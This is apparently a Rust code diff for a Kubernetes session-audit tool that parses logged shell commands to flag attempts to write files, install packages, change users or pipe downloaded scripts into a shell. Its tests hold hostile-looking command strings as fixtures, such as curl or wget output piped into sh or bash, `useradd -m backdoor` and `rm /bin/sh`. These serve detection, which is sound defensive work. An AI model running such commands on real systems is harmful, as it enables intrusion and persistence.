@@ -2,11 +2,15 @@
 //! cp`) tried to change it, and whether the container's spec lets it.
 //!
 //! A command is read as a shell reads it, roughly: `sh -c SCRIPT` is split into simple
-//! commands at `;`, `&&`, `||`, `|` and newlines, each skipping `sudo`, `env` and
-//! `VAR=value` words. A command that writes or installs (`touch`, `cp`, `mv`, `tee`,
-//! `sed -i`, `chmod`, `chown`, package managers' `install`, `curl -o`, `wget`, `tar x`,
-//! a redirection `>`) is an attempt, with the paths it writes where the command says
-//! them. Quoting is not parsed: a quoted `>` counts too, which errs towards reporting.
+//! commands at `;`, `&&`, `||`, `|` and newlines, each skipping `VAR=value` words and
+//! wrappers with their options (`sudo -u root`, `env`, `timeout 5s`, `nice -n 10`,
+//! `xargs`, `busybox`). A command that writes or installs (`touch`, `cp`, `mv`, `tee`,
+//! `sed -i`, `perl -pi`, `chmod`, `chown`, `chattr`, package managers' `install`,
+//! `dpkg -i`, `rpm -U`, `curl -o`, `wget`, `tar x`, `unzip`, `git clone`, `find
+//! -delete`, user and cron tools, a redirection `>`) is an attempt, with the paths it
+//! writes where the command says them; a shell in a script given no script of its own
+//! (`curl … | sh`) runs one the log does not hold. Quoting is not parsed: a quoted `>`
+//! counts too, which errs towards reporting.
 
 use crate::podspec::posture::ContainerPosture;
 
@@ -24,10 +28,61 @@ const SHELLS: [&str; 6] = ["sh", "bash", "ash", "dash", "zsh", "busybox"];
 const PACKAGE_MANAGERS: [&str; 11] = [
     "apt", "apt-get", "apk", "yum", "dnf", "microdnf", "zypper", "pip", "pip3", "npm", "gem",
 ];
+/// More package managers: (program, the words or options that make it install).
+const INSTALLERS: [(&str, &[&str]); 10] = [
+    ("opkg", &["install", "upgrade", "remove"]),
+    ("yarn", &["add", "global", "install"]),
+    ("pnpm", &["add", "install", "i"]),
+    ("pipx", &["install", "upgrade"]),
+    ("conda", &["install", "update", "remove"]),
+    ("go", &["install", "get"]),
+    ("cargo", &["install"]),
+    ("composer", &["require", "install", "update"]),
+    (
+        "dpkg",
+        &[
+            "-i",
+            "--install",
+            "--unpack",
+            "-r",
+            "--remove",
+            "-P",
+            "--purge",
+        ],
+    ),
+    (
+        "rpm",
+        &[
+            "-i",
+            "-U",
+            "-F",
+            "-e",
+            "-ivh",
+            "-Uvh",
+            "--install",
+            "--upgrade",
+            "--erase",
+        ],
+    ),
+];
 const INSTALL_VERBS: [&str; 6] = ["install", "add", "i", "upgrade", "update", "remove"];
 /// Commands that write the paths they are given (every argument that is not an option).
-const WRITERS: [&str; 10] = [
-    "touch", "tee", "mkdir", "rm", "rmdir", "truncate", "chmod", "chown", "chgrp", "ln",
+const WRITERS: [&str; 18] = [
+    "touch", "tee", "mkdir", "rm", "rmdir", "truncate", "chmod", "chown", "chgrp", "ln", "unlink",
+    "shred", "mknod", "mkfifo", "chattr", "gzip", "gunzip", "setfacl",
+];
+/// Commands whose first operand is a mode, owner or attribute, not a path.
+const MODE_FIRST: [&str; 5] = ["chmod", "chown", "chgrp", "chattr", "setfacl"];
+/// Commands that change the system's users and groups (`/etc/passwd`, `/etc/shadow`).
+const USER_TOOLS: [&str; 9] = [
+    "useradd", "adduser", "usermod", "userdel", "deluser", "groupadd", "addgroup", "passwd",
+    "chpasswd",
+];
+/// Words that run the command after them (with their own options): `sudo touch /x`
+/// writes as `touch /x` does. `busybox` and `toybox` run the applet named next.
+const WRAPPERS: [&str; 16] = [
+    "sudo", "doas", "env", "exec", "nohup", "nice", "ionice", "time", "command", "builtin",
+    "stdbuf", "setsid", "xargs", "timeout", "busybox", "toybox",
 ];
 
 /// The attempt a session's command makes, if it writes or installs (`kubectl cp` into
@@ -35,8 +90,13 @@ const WRITERS: [&str; 10] = [
 pub fn attempt(argv: &[String]) -> Option<Attempt> {
     let mut commands = Vec::new();
     let mut targets = Vec::new();
-    for words in simple_commands(argv) {
-        let found = writes(&words);
+    for (words, in_script) in simple_commands(argv) {
+        let mut found = writes(&words);
+        // `curl … | sh` inside a script: a shell with no script named reads one from
+        // its input, which the audit log does not hold.
+        if in_script && found.is_empty() && runs_piped_script(&words) {
+            found.push(PIPED_SCRIPT.to_string());
+        }
         if !found.is_empty() {
             commands.push(words.join(" "));
             for target in found {
@@ -49,9 +109,26 @@ pub fn attempt(argv: &[String]) -> Option<Attempt> {
     (!commands.is_empty()).then_some(Attempt { commands, targets })
 }
 
-/// The simple commands of argv: itself, or the script of `sh -c SCRIPT` cut at shell
-/// operators.
-fn simple_commands(argv: &[String]) -> Vec<Vec<String>> {
+/// The target of a shell reading a script from a pipe: what it writes is not logged.
+const PIPED_SCRIPT: &str = "(a script read from a pipe)";
+
+/// The target of `xargs rm` and the like: paths read from the command's input.
+const FROM_INPUT: &str = "(paths read from its input)";
+
+/// A shell given no script (`sh`, `bash -s`, `sh -x`): it runs what it reads.
+fn runs_piped_script(words: &[String]) -> bool {
+    let words = skip_wrappers(words);
+    words
+        .first()
+        .is_some_and(|p| SHELLS.contains(&basename(p)) && basename(p) != "busybox")
+        && words[1..]
+            .iter()
+            .all(|w| w.starts_with('-') && !w.contains('c'))
+}
+
+/// The simple commands of argv, each told whether it came from a script: argv itself,
+/// or the script of `sh -c SCRIPT` cut at shell operators.
+fn simple_commands(argv: &[String]) -> Vec<(Vec<String>, bool)> {
     let program = argv.first().map(|p| basename(p)).unwrap_or_default();
     let script = SHELLS
         .contains(&program)
@@ -63,7 +140,7 @@ fn simple_commands(argv: &[String]) -> Vec<Vec<String>> {
         .flatten()
         .and_then(|at| argv.get(at + 1));
     let Some(script) = script else {
-        return vec![argv.to_vec()];
+        return vec![(argv.to_vec(), false)];
     };
     let mut out = Vec::new();
     let spaced = script
@@ -75,7 +152,7 @@ fn simple_commands(argv: &[String]) -> Vec<Vec<String>> {
         let line = line.replace(">>", " > ").replace('>', " > ");
         let words: Vec<String> = line.split_whitespace().map(str::to_string).collect();
         if !words.is_empty() {
-            out.push(words);
+            out.push((words, true));
         }
     }
     out
@@ -94,10 +171,13 @@ fn writes(words: &[String]) -> Vec<String> {
             targets.push(pair[1].clone());
         }
     }
-    let words: Vec<&str> = words
+    let via_xargs = words
+        .iter()
+        .take(words.len() - skip_wrappers(words).len())
+        .any(|w| basename(w) == "xargs");
+    let words: Vec<&str> = skip_wrappers(words)
         .iter()
         .map(String::as_str)
-        .skip_while(|w| matches!(*w, "sudo" | "env" | "exec") || w.contains('='))
         .take_while(|w| *w != ">")
         .collect();
     let Some((&program, args)) = words.split_first() else {
@@ -109,20 +189,36 @@ fn writes(words: &[String]) -> Vec<String> {
             .map(|a| a.to_string())
     };
     let program = basename(program);
+    let option_value = |names: &[&str]| {
+        let at = args.iter().position(|a| names.contains(a))?;
+        args.get(at + 1).map(|a| a.to_string())
+    };
     match program {
         _ if WRITERS.contains(&program) => {
             let mut operands: Vec<String> = operands().collect();
             // chmod MODE FILE…, chown OWNER FILE…: the first operand is no path.
-            if matches!(program, "chmod" | "chown" | "chgrp") && !operands.is_empty() {
+            if MODE_FIRST.contains(&program) && !operands.is_empty() {
                 operands.remove(0);
+            }
+            // `chattr +i FILE`: an attribute, not a path.
+            operands.retain(|o| !o.starts_with('+'));
+            // `… | xargs rm`: the paths come from its input.
+            if operands.is_empty() && via_xargs && program != "tee" {
+                operands.push(FROM_INPUT.to_string());
             }
             targets.extend(operands);
         }
-        "cp" | "mv" | "install" | "rsync" => targets.extend(operands().next_back()),
-        "sed"
-            if args
-                .iter()
-                .any(|a| a.starts_with("-i") || *a == "--in-place") =>
+        // `cp -t DIR FILE…` names its destination first.
+        "cp" | "mv" | "install" | "rsync" => match option_value(&["-t", "--target-directory"]) {
+            Some(dir) => targets.push(dir),
+            None => targets.extend(operands().next_back()),
+        },
+        // `-i`, or a cluster holding it (`sed -Ei`, `perl -pi`).
+        "sed" | "perl"
+            if args.iter().any(|a| {
+                a.starts_with("--in-place")
+                    || (a.starts_with('-') && !a.starts_with("--") && a.contains('i'))
+            }) =>
         {
             targets.extend(operands().next_back());
         }
@@ -131,18 +227,44 @@ fn writes(words: &[String]) -> Vec<String> {
         {
             targets.push("/usr".to_string());
         }
-        "curl" => {
-            if let Some(at) = args.iter().position(|a| matches!(*a, "-o" | "--output")) {
-                targets.extend(args.get(at + 1).map(|a| a.to_string()));
-            } else if args.iter().any(|a| matches!(*a, "-O" | "--remote-name")) {
+        _ if INSTALLERS
+            .iter()
+            .any(|(p, verbs)| *p == program && args.iter().any(|a| verbs.contains(a))) =>
+        {
+            targets.push("/usr".to_string());
+        }
+        _ if USER_TOOLS.contains(&program) => targets.push("/etc".to_string()),
+        "crontab" if !args.iter().any(|a| matches!(*a, "-l")) => {
+            targets.push("/var/spool/cron".to_string());
+        }
+        "unzip" => targets.push(option_value(&["-d"]).unwrap_or_else(|| ".".to_string())),
+        "git" if args.first() == Some(&"clone") => {
+            let operands: Vec<String> = operands().skip(1).collect();
+            targets.push(match operands.as_slice() {
+                [_, dir, ..] => dir.clone(),
+                _ => ".".to_string(),
+            });
+        }
+        // `find DIR … -delete`, or `-exec`/`-execdir` of a command that writes.
+        "find" if args.contains(&"-delete") || finds_and_writes(args) => {
+            targets.push(operands().next().unwrap_or_else(|| ".".to_string()));
+        }
+        "curl" => match short_or_long_value(args, 'o', "--output") {
+            Some(file) if file == "-" => {}
+            Some(file) => targets.push(file),
+            None if args.iter().any(|a| {
+                *a == "--remote-name"
+                    || (a.starts_with('-') && !a.starts_with("--") && a.contains('O'))
+            }) =>
+            {
                 targets.push(".".to_string());
             }
-        }
-        "wget" => match args
-            .iter()
-            .position(|a| matches!(*a, "-O" | "--output-document"))
-        {
-            Some(at) => targets.extend(args.get(at + 1).map(|a| a.to_string())),
+            None => {}
+        },
+        // wget writes a file named from the URL unless told otherwise.
+        "wget" => match short_or_long_value(args, 'O', "--output-document") {
+            Some(file) if file == "-" => {}
+            Some(file) => targets.push(file),
             None => targets.push(".".to_string()),
         },
         "tar" => {
@@ -169,6 +291,94 @@ fn writes(words: &[String]) -> Vec<String> {
     targets
 }
 
+/// The value of option `-L` (alone, or last in a cluster: `-sSLo FILE`, `-qO-`, value
+/// attached or next) or `LONG` (`--output FILE`, `--output=FILE`); `-` is standard
+/// output, which writes no file.
+fn short_or_long_value(args: &[&str], letter: char, long: &str) -> Option<String> {
+    let mut value = None;
+    for (at, arg) in args.iter().enumerate() {
+        let next = || args.get(at + 1).map(|v| v.to_string());
+        if let Some(rest) = arg.strip_prefix(long) {
+            value = match rest.strip_prefix('=') {
+                Some(attached) => Some(attached.to_string()),
+                None if rest.is_empty() => next(),
+                None => continue,
+            };
+        } else if arg.starts_with('-') && !arg.starts_with("--") {
+            if let Some((_, rest)) = arg[1..].split_once(letter) {
+                value = if rest.is_empty() {
+                    next()
+                } else {
+                    Some(rest.to_string())
+                };
+            }
+        }
+    }
+    value
+}
+
+/// Whether a `find`'s `-exec`/`-execdir`/`-ok` runs a command that writes.
+fn finds_and_writes(args: &[&str]) -> bool {
+    let exec = ["-exec", "-execdir", "-ok", "-okdir"];
+    let Some(at) = args.iter().position(|a| exec.contains(a)) else {
+        return false;
+    };
+    let command: Vec<String> = args[at + 1..]
+        .iter()
+        .take_while(|a| !matches!(**a, ";" | "\\;" | "+"))
+        .map(|a| a.replace("{}", "/found"))
+        .collect();
+    !writes(&command).is_empty()
+}
+
+/// `words` from the command a wrapper runs: `VAR=value` words, and wrappers (`sudo -u
+/// root`, `timeout 5s`, `nice -n 10`, `busybox`) with their options, are skipped.
+fn skip_wrappers(words: &[String]) -> &[String] {
+    let mut at = 0;
+    while let Some(word) = words.get(at) {
+        if word.contains('=') && !word.starts_with('-') {
+            at += 1;
+            continue;
+        }
+        let program = basename(word);
+        if !WRAPPERS.contains(&program) {
+            break;
+        }
+        at += 1;
+        // Its options, and the values of those that take one (`-n 10`, `-u root`).
+        let valued = WRAPPER_VALUES
+            .iter()
+            .find(|(w, _)| *w == program)
+            .map_or(&[][..], |(_, options)| *options);
+        while let Some(option) = words.get(at).filter(|w| w.starts_with('-')) {
+            at += 1;
+            if valued.contains(&option.as_str()) && words.get(at).is_some() {
+                at += 1;
+            }
+        }
+        // `timeout DURATION COMMAND`.
+        if program == "timeout" && words.get(at).is_some() {
+            at += 1;
+        }
+    }
+    &words[at..]
+}
+
+/// The options of a wrapper that take a value as the next word.
+const WRAPPER_VALUES: [(&str, &[&str]); 8] = [
+    (
+        "sudo",
+        &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
+    ),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "--unset", "--chdir"]),
+    ("nice", &["-n", "--adjustment"]),
+    ("ionice", &["-c", "-n", "-p", "--class", "--classdata"]),
+    ("xargs", &["-I", "-n", "-P", "-d", "-s", "-L", "-a", "-E"]),
+    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
+    ("stdbuf", &["-i", "-o", "-e"]),
+];
+
 /// Whether the attempt can write where it aims, under the container's spec:
 /// `yes: root filesystem writable`, `yes: /var/run (emptyDir)`, `no: read-only root`,
 /// or why it cannot be told.
@@ -181,6 +391,10 @@ pub fn writable(attempt: &Attempt, container: Option<&ContainerPosture>) -> Stri
     }
     let mut unknown = false;
     for target in &attempt.targets {
+        // What the session read from its input is not in the audit log.
+        if target == PIPED_SCRIPT || target == FROM_INPUT {
+            return format!("unknown: {target}, not in the audit log");
+        }
         if !target.starts_with('/') {
             unknown = true;
             continue;
@@ -261,6 +475,66 @@ mod tests {
         );
     }
 
+    /// The neighbours of the issue's list an intruder reaches for: the same writes
+    /// behind a wrapper, other installers, a script piped into a shell.
+    #[test]
+    fn wrapped_piped_and_other_writers_are_attempts_too() {
+        let one = |words: &[&str], expected: &str| {
+            assert_eq!(
+                targets(words),
+                Some(vec![expected.to_string()]),
+                "{words:?}"
+            );
+        };
+        one(&["sudo", "-u", "root", "touch", "/etc/x"], "/etc/x");
+        one(&["timeout", "-s", "KILL", "5s", "rm", "/bin/sh"], "/bin/sh");
+        one(&["nice", "-n", "10", "cp", "a", "/opt/b"], "/opt/b");
+        one(&["env", "-i", "PATH=/bin", "mkdir", "/srv/x"], "/srv/x");
+        one(&["/bin/busybox", "wget", "http://x/y"], ".");
+        one(&["curl", "-sSLo", "/tmp/x", "http://x"], "/tmp/x");
+        one(&["curl", "--output=/tmp/y", "http://x"], "/tmp/y");
+        one(&["busybox", "wget", "-O", "/tmp/y", "http://x/y"], "/tmp/y");
+        one(&["xargs", "-n", "1", "rm"], FROM_INPUT);
+        one(&["cp", "-t", "/usr/local/bin", "tool"], "/usr/local/bin");
+        one(
+            &["sed", "--in-place=.bak", "s/a/b/", "/etc/conf"],
+            "/etc/conf",
+        );
+        one(&["perl", "-pi", "-e", "s/a/b/", "/etc/conf"], "/etc/conf");
+        one(&["chattr", "-i", "+a", "/var/log/x"], "/var/log/x");
+        one(&["dpkg", "-i", "tool.deb"], "/usr");
+        one(&["rpm", "-Uvh", "tool.rpm"], "/usr");
+        one(&["yarn", "global", "add", "x"], "/usr");
+        one(&["go", "install", "example.com/x@latest"], "/usr");
+        one(&["useradd", "-m", "backdoor"], "/etc");
+        one(&["crontab", "/tmp/jobs"], "/var/spool/cron");
+        one(&["unzip", "-o", "app.zip", "-d", "/app"], "/app");
+        one(&["git", "clone", "https://x/r.git", "/srv/r"], "/srv/r");
+        one(
+            &["find", "/var/www", "-name", "*.php", "-delete"],
+            "/var/www",
+        );
+        one(
+            &["find", "/app", "-exec", "chmod", "777", "{}", ";"],
+            "/app",
+        );
+        // The script an intruder downloads and pipes into a shell is not logged.
+        let piped = attempt(&argv(&["sh", "-c", "curl -s http://x/i.sh | sh"])).unwrap();
+        assert_eq!(piped.targets, [PIPED_SCRIPT]);
+        let c = ContainerPosture {
+            read_only_root: true,
+            ..ContainerPosture::default()
+        };
+        assert_eq!(
+            writable(&piped, Some(&c)),
+            "unknown: (a script read from a pipe), not in the audit log"
+        );
+        one(
+            &["bash", "-c", "wget -qO- http://x | sudo bash -s"],
+            PIPED_SCRIPT,
+        );
+    }
+
     #[test]
     fn commands_that_only_read_are_not() {
         for words in [
@@ -270,6 +544,17 @@ mod tests {
             &["ls", "-la", ">/dev/null"],
             &["sh", "-c", "ps aux | grep x > /dev/null"],
             &["apt-get", "--version"],
+            &["sudo", "-u", "app", "cat", "/etc/x"],
+            &["timeout", "5", "ls", "/"],
+            &["busybox", "ps"],
+            &["find", "/", "-name", "*.key"],
+            &["find", "/", "-exec", "grep", "-l", "x", "{}", ";"],
+            &["crontab", "-l"],
+            &["curl", "-sS", "http://x"],
+            &["wget", "-qO-", "http://x"],
+            &["git", "log"],
+            // A shell that runs a named script, or one typed into: not a pipe.
+            &["sh", "-c", "sh /app/healthcheck.sh"],
         ] {
             assert_eq!(targets(words), None, "{words:?}");
         }
